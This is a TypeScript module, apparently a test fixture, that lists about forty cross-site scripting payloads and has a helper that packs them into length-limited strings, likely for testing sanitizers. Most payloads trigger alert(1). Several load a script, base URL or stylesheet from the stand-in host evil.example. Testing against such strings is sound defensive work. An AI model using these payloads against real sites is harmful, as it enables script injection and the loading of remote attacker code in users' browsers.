/** Texts that ran as script somewhere, once. None has more than 90 characters. */
export const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">alert(1)</script>',
  '<!--<script>alert(1)//-->',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<div style="background:url(//evil.example/x.png)">x</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<form id=document><input name=cookie><img name=body>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  'javascript:alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '$\x7balert(1)}`-alert(1)-`',
  '\u2028alert(1)\u2029\\u003cscript\\u003ealert(1)',
];

/** As many in a text as fit its length. */
export function payloadTexts(length: number, wanted = payloads): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of wanted) {
    const longer = text ? `${text} ${payload}` : payload;
    if (longer.length > length) texts.push(text);
    text = longer.length > length ? payload : longer;
  }
  return [...texts, text];
}
